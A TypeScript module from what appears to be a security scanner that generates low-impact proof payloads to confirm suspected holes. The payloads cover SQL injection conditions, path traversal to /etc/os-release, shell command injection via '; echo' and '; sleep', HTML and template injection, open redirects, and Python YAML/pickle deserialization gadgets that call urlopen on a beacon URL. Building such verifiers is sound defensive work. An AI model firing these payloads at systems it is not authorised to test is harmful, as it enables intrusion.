import { randomInt } from 'node:crypto';
import { basename } from 'node:path';
import type { Finding } from '../core/index.ts';
import type { Beacon } from './beacon.ts';
import type { Reply } from './endpoint.ts';

/** One way to prove a hole without doing harm. */
export interface Attack {
  /** The value that is sent. */
  value: string;
  /** Another one, whose answer has to differ: the same sentence with a false condition. */
  counter?: string;
  /** What the answer shows, in a sentence, or undefined when it proves nothing. */
  proof(reply: Reply, counter: Reply | undefined): string | undefined;
  /** The proof may show on the page that the answer leads to, or on the same route asked again. */
  stored?: true;
}

export type Attacks = readonly Attack[] | { none: string };

const WRITES_SQL = /\b(?:insert|update|delete|replace|drop|alter|create|truncate)\b/i;
const WRITES_FILE = /write|remove|unlink|rmtree|save|mkdir|rename|move|copy|extract|makedirs|chmod/i;
const OPENS_TO_WRITE = /,\s*(?:mode\s*=\s*)?["'](?:[rwax]b?\+|[wax]b?t?)["']/;

/** A word that stands nowhere else. */
const newMark = (): string => `gh${randomInt(0x100000, 0xffffff).toString(16)}`;

const codeOf = (finding: Finding): string =>
  [finding.place.code, ...finding.path.map(({ code }) => code)].join('\n');

const conditions = (make: (truth: string) => string): Attack => ({
  value: make('7=7'),
  counter: make('7=8'),
  proof: (reply, counter) =>
    reply.status < 400 && counter !== undefined && counter.status < 400 && reply.body !== counter.body
      ? 'a true and a false condition in the value gave different answers'
      : undefined,
});

const sql = (finding: Finding): Attacks => {
  if (WRITES_SQL.test(codeOf(finding))) return { none: 'its statement changes data' };
  const mark = newMark();
  switch (finding.sink.position) {
    case 'expression':
      return [(truth: string) => `0 OR ${truth}`, (truth: string) => `0) OR (${truth}`].map(conditions);
    case 'identifier':
      return [conditions((truth) => `(CASE WHEN ${truth} THEN 1 ELSE 2 END)`)];
    default:
      return ["'", '"'].flatMap((quote) =>
        [`${mark}${quote}`, `${mark}${quote})`].map((begin) =>
          conditions((truth) => `${begin} OR ${truth} -- x`),
        ),
      );
  }
};

const path = (finding: Finding): Attacks => {
  if (WRITES_FILE.test(finding.sink.name) || OPENS_TO_WRITE.test(finding.place.code))
    return { none: 'the file could be written' };
  const line = finding.place.code.trim();
  const own = basename(finding.place.file);
  const up = [1, 2, 3].map((levels) => `${'../'.repeat(levels)}${own}`);
  return [
    ...up.map(
      (value): Attack => ({
        value,
        proof: ({ body }) =>
          line.length > 12 && body.includes(line) ? `it read ${own}, the app's own code` : undefined,
      }),
    ),
    ...['../'.repeat(12), '/'].map(
      (begin): Attack => ({
        value: `${begin}etc/os-release`,
        proof: ({ body }) => (/^(?:PRETTY_)?NAME=/m.test(body) ? 'it read /etc/os-release' : undefined),
      }),
    ),
  ];
};

const product = (make: (sum: string, mark: string) => string): Attack => {
  const [a, b, mark] = [randomInt(1_000, 9_000), randomInt(1_000, 9_000), newMark()];
  return {
    value: make(`${a}*${b}`, mark),
    proof: ({ body }) => (body.includes(String(a * b)) ? `it worked out ${a} × ${b}` : undefined),
  };
};

const PAUSE = 3;

const shell = (): Attacks => [
  product((sum, mark) => `${mark}; echo $((${sum})) #`),
  product((sum, mark) => `${mark} | echo $((${sum})) #`),
  product((sum, mark) => `${mark}'; echo $((${sum})) #`),
  product((sum, mark) => `${mark}"; echo $((${sum})) #`),
  product((sum) => `$(echo $((${sum})))`),
  {
    value: `${newMark()}; sleep ${PAUSE} #`,
    counter: newMark(),
    proof: (reply, counter) =>
      counter !== undefined && reply.took > PAUSE * 900 && counter.took < PAUSE * 500
        ? `it slept for ${PAUSE} s`
        : undefined,
  },
];

const html = (): Attacks => {
  const mark = newMark();
  const text = (value: string): Attack => ({
    value,
    stored: true,
    proof: ({ body, headers }) =>
      body.includes(`<${mark}>`) && /html/i.test(String(headers['content-type'] ?? 'html'))
        ? 'the page holds an element of ours'
        : undefined,
  });
  // An element that no browser knows: it runs nothing.
  return [text(`<${mark}>`), text(`"'><${mark}>`)];
};

const redirect = (): Attacks =>
  ['https://', '//', '/\\', 'https:'].map((begin): Attack => {
    const host = `${newMark()}.invalid`;
    return {
      value: `${begin}${host}/`,
      proof: ({ status, headers }) => {
        const { location } = headers;
        if (status < 300 || status > 399 || typeof location !== 'string') return undefined;
        const base = 'https://app.invalid/';
        return URL.canParse(location, base) && new URL(location, base).hostname === host
          ? 'it sent the visitor to another site'
          : undefined;
      },
    };
  });

const visit = (beacon: Beacon, make: (url: string) => string): Attack => {
  const mark = newMark();
  return {
    value: make(beacon.urlOf(mark)),
    proof: () => (beacon.seen(mark) ? 'the server came to an address of ours' : undefined),
  };
};

const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64');

const deserialize = (finding: Finding, beacon: Beacon): Attacks => {
  const { name } = finding.sink;
  if (/yaml/i.test(name)) {
    const yaml = (tag: string) =>
      visit(beacon, (url) => `!!python/object/${tag}:urllib.request.urlopen ["${url}"]`);
    return [yaml('apply'), yaml('new')];
  }
  if (!/pickle/i.test(name)) return { none: `there is no harmless proof for ${name}` };
  const pickle = (url: string) => `curllib.request\nurlopen\n(S'${url}'\ntR.`;
  return [visit(beacon, (url) => base64(pickle(url))), visit(beacon, pickle)];
};

/** The harmless proofs for a finding, the surest first; timing only at the end. */
export const attacksFor = (finding: Finding, beacon: Beacon): Attacks => {
  const { kind, position } = finding.sink;
  switch (kind) {
    case 'sql':
      return sql(finding);
    case 'path':
      return path(finding);
    case 'shell':
      return shell();
    case 'html':
      return html();
    case 'redirect':
      return redirect();
    case 'url':
      return [visit(beacon, position === 'host' ? (url) => url.replace(/^http:\/\//, '') : (url) => url)];
    case 'deserialize':
      return deserialize(finding, beacon);
    case 'code':
      return [product((sum) => sum)];
    case 'template':
      return [product((sum) => `{{${sum}}}`), product((sum) => `\${${sum}}`)];
    default:
      return { none: `there is no harmless proof for what reaches ${kind}` };
  }
};

const NAMED_DEFAULT = (name: string): RegExp =>
  new RegExp(`get\\(\\s*["']${name.replace(/\W/g, '\\$&')}["']\\s*,\\s*["']([^"'\\\\]{1,100})["']`);

/** A value as people send it: the code's own default where it has one. Undefined when none is harmless. */
export const ordinaryValue = (finding: Finding, hosts: readonly string[]): string | undefined => {
  const { name } = finding.source?.parameter ?? { name: null };
  const kept = name === null ? undefined : NAMED_DEFAULT(name).exec(codeOf(finding))?.[1];
  if (kept !== undefined) return kept;
  switch (finding.sink.kind) {
    case 'url':
      return hosts[0] === undefined ? undefined : `http://${hosts[0]}/`;
    case 'deserialize':
      // A pickle of an empty map; the YAML of one.
      return /yaml/i.test(finding.sink.name) ? '[]' : base64('\u0080\u0004}.');
    case 'redirect':
      return '/';
    case 'sql':
      return finding.sink.position === 'quoted' ? 'gatehouse' : '1';
    case 'code':
      return '1';
    case 'path':
      return 'gatehouse.txt';
    default:
      return 'gatehouse';
  }
};
